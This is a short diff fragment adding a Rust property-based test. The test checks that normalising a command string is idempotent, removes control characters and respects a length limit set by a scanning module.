+        fn normalising_twice_is_normalising_once(pieces in prop::collection::vec(piece(), 0..40), times in prop_oneof![9 => Just(1usize), 1 => Just(100)]) {
+            let command = pieces.concat().repeat(times);
+            let once = normalise(&command);
+            prop_assert!(once.len() <= scan::LIMIT + '␤'.len_utf8() + scan::CUT.len());
+            prop_assert!(!once.chars().any(char::is_control));
+            prop_assert_eq!(&normalise(&once), &once, "{:?}", command);
         }
     }
 }
